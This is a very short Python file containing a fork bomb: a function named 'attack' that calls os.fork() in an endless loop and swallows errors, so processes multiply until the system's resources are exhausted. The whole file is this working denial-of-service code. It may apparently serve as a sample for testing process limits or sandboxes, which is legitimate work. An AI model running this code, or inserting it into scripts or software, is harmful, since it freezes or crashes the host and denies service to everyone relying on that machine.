"""Forks without end."""

import os


def attack(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass
